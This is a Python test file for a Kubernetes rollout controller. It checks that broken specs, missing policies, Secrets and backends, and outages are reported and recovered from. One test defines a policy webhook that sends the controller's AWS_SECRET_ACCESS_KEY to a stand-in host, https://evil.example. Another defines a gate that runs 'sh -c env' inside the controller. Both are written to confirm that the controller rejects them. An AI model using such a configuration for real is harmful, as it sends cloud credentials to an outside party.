"""What people get wrong: it is told, nothing moves, and mending it is enough."""

from __future__ import annotations

import copy
import time

import pytest

from rollout.adapters.kubernetes.resources import DEPLOYMENT, HTTP_ROUTE, POLICY, ROLLOUT, SECRET
from rollout.adapters.storage.command_annotations import ABORT
from rollout.controller.secrets import ALLOWED_HOSTS
from tests.controller.steps import LONG, abort, finalizers, gone, observing, push, released, restart, settled
from tests.fakes import agents
from tests.fakes.clustered import ClusterWorld


def break_spec(world, name="broken"):
    """Put a Rollout into the store that no definition would have let in."""
    found = agents.rollout(world.url, name=name)
    found["spec"]["routes"] = {"not": "a list"}
    found["spec"]["version"] = 7
    key = ("rollout.dev", "rollouts", "default", name)
    found["metadata"] |= {
        "namespace": "default",
        "uid": "u",
        "generation": 1,
        "creationTimestamp": "2026-01-01T00:00:00Z",
    }
    with world.cluster.lock:
        world.cluster._store(key, found, "ADDED")


def test_a_malformed_rollout_in_the_watch_stops_no_other_and_recovers_when_it_is_mended():
    with ClusterWorld() as world:
        break_spec(world)
        released(world)
        stalled = world.condition("Stalled", "broken")
        assert (
            stalled["status"] == "True" and stalled["reason"] == "InvalidSpec" and "spec.routes" in stalled["message"]
        )
        fixed = agents.rollout(world.url, name="broken")["spec"]
        with world.cluster.lock:
            raw = copy.deepcopy(world.cluster.objects["rollout.dev", "rollouts", "default", "broken"])
            raw["spec"] = {
                **fixed,
                "routes": [{"httpRoute": {"name": "agent", "rule": "chat"}}],
                "backends": {"service": "agent-$version", "port": 8000},
            }
            raw["metadata"]["generation"] += 1
            world.cluster._store(("rollout.dev", "rollouts", "default", "broken"), raw, "MODIFIED")
        world.until(lambda _: world.status("broken").get("stableVersion") == "v2")


def test_a_policy_that_is_missing_or_wrong_is_told_and_mending_it_is_enough():
    with ClusterWorld(policyRef={"name": "later"}) as world:
        world.until(lambda _: world.condition("Stalled").get("reason") == "PolicyNotFound")
        world.until(lambda _: any(reason == "PolicyNotFound" for _, reason, _ in world.events()))
        wrong = agents.policy("later", gates={"commands": [{"name": "evals", "run": ["sh", "-c", "env"]}]})
        world.api.create(POLICY, "default", wrong)
        world.until(lambda _: world.condition("Stalled").get("reason") == "InvalidSpec")
        assert "inside the controller" in world.condition("Stalled")["message"]
        world.api.merge(POLICY, "default", "later", {"spec": {"gates": None}})
        settled(world)
        world.until(lambda _: world.condition("Stalled").get("status") == "False")


def test_a_policy_cannot_send_the_controllers_environment_away():
    hook = {"name": "h", "url": "https://evil.example", "auth": {"bearer": {"env": "AWS_SECRET_ACCESS_KEY"}}}
    with ClusterWorld(policy=agents.policy(gates={"webhooks": [hook]})) as world:
        world.until(lambda _: world.condition("Stalled").get("reason") == "InvalidSpec")
        assert "may not send away" in world.condition("Stalled")["message"]


def test_a_policy_that_vanishes_in_mid_flight_does_not_stop_what_has_pinned_it():
    with ClusterWorld() as world:
        settled(world)
        world.want("v2")
        world.phase("Shifting", "Observing")
        world.api.delete(POLICY, "default", "quick")
        world.until(lambda _: world.condition("Stalled").get("reason") == "PolicyNotFound")
        assert settled(world, "v2")["result"] == "promoted"
        world.until(lambda _: "PolicyNotFound" in {reason for _, reason, _ in world.events()})


def test_what_a_release_lacks_is_told_before_any_traffic_and_it_starts_once_it_is_there():
    with ClusterWorld(versions=("v1",), weights=(100,)) as world:
        settled(world)
        world.want("v3")
        status = world.until(lambda status: status.get("reason") == "BackendNotFound")
        assert "has no Service in default" in status["message"] and status["phase"] == "Preflight"
        agents.version(world.api, "v3", ready=0)
        world.until(lambda status: "no backend for v3" in status["message"] or "no ready endpoint" in status["message"])
        backend = {"name": "agent-v3", "port": 8000, "weight": 0}
        world.api.patch(
            HTTP_ROUTE, "default", "agent", [{"op": "add", "path": "/spec/rules/1/backendRefs/-", "value": backend}]
        )
        world.until(lambda status: "no ready endpoint" in status["message"])
        assert finalizers(world) == [] and world.shares()["v3"] == 0
        agents.endpoints(world.api, "v3")
        settled(world, "v3")


def test_a_route_that_no_gateway_takes_up_gets_no_traffic():
    with ClusterWorld() as world:
        settled(world)
        world.gateway.accepts = False
        taken = lambda: world.api.get(HTTP_ROUTE, "default", "agent").get("status", {}).get("parents", [{}])[0]
        world.until(lambda _: taken().get("conditions", [{}])[0].get("status") == "False")
        world.want("v2")
        world.until(lambda status: status.get("reason") == "RouteNotAccepted")
        assert world.shares() == {"v1": 100, "v2": 0}
        world.gateway.accepts = True
        settled(world, "v2")


def test_a_prometheus_that_is_down_holds_and_an_abort_does_not_wait_for_it():
    with ClusterWorld() as world:
        settled(world)
        world.want("v2")
        world.phase("Observing")
        world.prometheus.answer = (503, "text/plain", "away")
        world.until(lambda status: status.get("reason") == "SourceError")
        shares = world.shares()
        time.sleep(0.5)
        assert world.shares() == shares, "no data is never success"
        world.api.merge(ROLLOUT, "default", "agent", {"metadata": {"annotations": {ABORT: "it burns"}}})
        status = world.phase("RolledBack")
        assert world.shares() == {"v1": 100, "v2": 0} and status["result"] == "aborted"
        assert status["lastCommand"]["reason"] == "it burns"


def test_a_secret_that_is_missing_is_told_and_nothing_moves():
    with ClusterWorld() as world:
        settled(world)
        auth = {"bearer": {"secretKeyRef": {"name": "prom", "key": "token"}}}
        world.api.merge(ROLLOUT, "default", "agent", {"spec": {"metrics": {"prometheus": {"auth": auth}}}})
        world.want("v2")
        status = world.until(lambda status: "the Secret default/prom does not exist" in status.get("message", ""))
        assert status["phase"] == "Preflight"
        body = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "prom"}, "data": {"token": "eA=="}}
        world.api.create(SECRET, "default", body)
        world.until(lambda status: "does not say that it is meant for 127.0.0.1" in status.get("message", ""), 180)
        world.api.merge(SECRET, "default", "prom", {"metadata": {"annotations": {ALLOWED_HOSTS: "127.0.0.1"}}})
        settled(world, "v2")


def test_a_version_that_changes_under_a_rollout_is_a_condition():
    with ClusterWorld(
        policy=agents.policy(canary={"steps": [{"weight": "50%", "for": "10m"}], "bake": {"for": "1s"}})
    ) as world:
        settled(world)
        world.want("v2")
        world.phase("Observing")
        assert (
            set(world.status()["identities"]) == {"v1", "v2"} and world.condition("IdentityDrift")["status"] == "False"
        )
        world.api.merge(
            DEPLOYMENT, "default", "agent-v1", {"spec": {"template": {"metadata": {"annotations": {"prompt": "2"}}}}}
        )
        world.until(lambda _: world.condition("IdentityDrift")["status"] == "True")
        assert "v1: annotations" in world.condition("IdentityDrift")["message"]


def test_a_spec_that_is_broken_in_mid_flight_stops_neither_judging_nor_an_abort_nor_a_deletion():
    broken = {"spec": {"backends": {"service": "$name-$version-$nmae"}}}
    with ClusterWorld(policy=LONG) as world:
        observing(world)
        world.api.merge(ROLLOUT, "default", "agent", broken)
        restart(world)
        world.until(lambda _: world.condition("Stalled").get("reason") == "InvalidSpec")
        looked = world.status()["sampledAt"]
        world.until(lambda status: status["sampledAt"] > looked)
        abort(world)
        world.phase("RolledBack")
        assert world.shares() == {"v1": 100, "v2": 0}
    with ClusterWorld(policy=LONG) as world:
        observing(world)
        world.api.merge(ROLLOUT, "default", "agent", broken)
        restart(world)
        world.api.delete(ROLLOUT, "default", "agent")
        gone(world)
        assert world.shares() == {"v1": 100, "v2": 0}


def test_weights_are_not_written_before_the_gates_have_passed():
    with ClusterWorld() as world:
        settled(world)
        push(world, (0, 100))  # somebody has moved everything by hand
        agents.version(world.api, "v3")
        backend = {"name": "agent-v3", "port": 8000, "weight": 0}
        world.api.patch(
            HTTP_ROUTE, "default", "agent", [{"op": "add", "path": "/spec/rules/1/backendRefs/-", "value": backend}]
        )
        world.want("v3")
        status = world.until(lambda status: status.get("reason") == "RouteRefused")
        assert "traffic to agent-v2" in status["message"] and world.shares() == {"v1": 0, "v2": 100, "v3": 0}
        push(world, (100, 0))
        settled(world, "v3")


@pytest.mark.parametrize("mended", ["rule", "prometheus", "manage"])
def test_what_is_mended_during_the_checks_is_gone_by_at_once(mended):
    with ClusterWorld(
        versions=("v1",) if mended == "manage" else ("v1", "v2"), weights=(100,) if mended == "manage" else (100, 0)
    ) as world:
        settled(world)
        good = {"httpRoute": {"name": "agent", "rule": "chat"}}
        wrong = {
            "rule": {"routes": [{"httpRoute": {"name": "agent", "rule": "caht"}}]},
            "prometheus": {"metrics": {"prometheus": {"url": "http://127.0.0.1:9"}}},
            "manage": {},
        }[mended]
        right = {
            "rule": {"routes": [good]},
            "prometheus": {"metrics": {"prometheus": {"url": world.url}}},
            "manage": {"routes": [{"httpRoute": {**good["httpRoute"], "manageBackends": True}}]},
        }[mended]
        world.want("v2", **wrong)
        world.until(lambda status: status.get("reason") in ("RouteRefused", "SourceError", "BackendNotFound"))
        world.api.merge(ROLLOUT, "default", "agent", {"spec": right})
        assert settled(world, "v2")["result"] == "promoted"


def test_conditions_do_not_flap_between_looks():
    with ClusterWorld(policy=LONG) as world:
        observing(world)
        world.until(lambda status: status["reason"] == "Holding" and "holding this weight" in status["message"])
        world.api.delete(POLICY, "default", "quick")
        world.until(lambda _: world.condition("Stalled").get("status") == "True")
        world.until(lambda _: any(reason == "PolicyNotFound" for _, reason, _ in world.events()))
        since, events = world.condition("Stalled")["lastTransitionTime"], len(world.events())
        time.sleep(1.5)
        assert world.condition("Stalled")["lastTransitionTime"] == since and len(world.events()) == events
        assert world.condition("Reconciling")["status"] == "True"
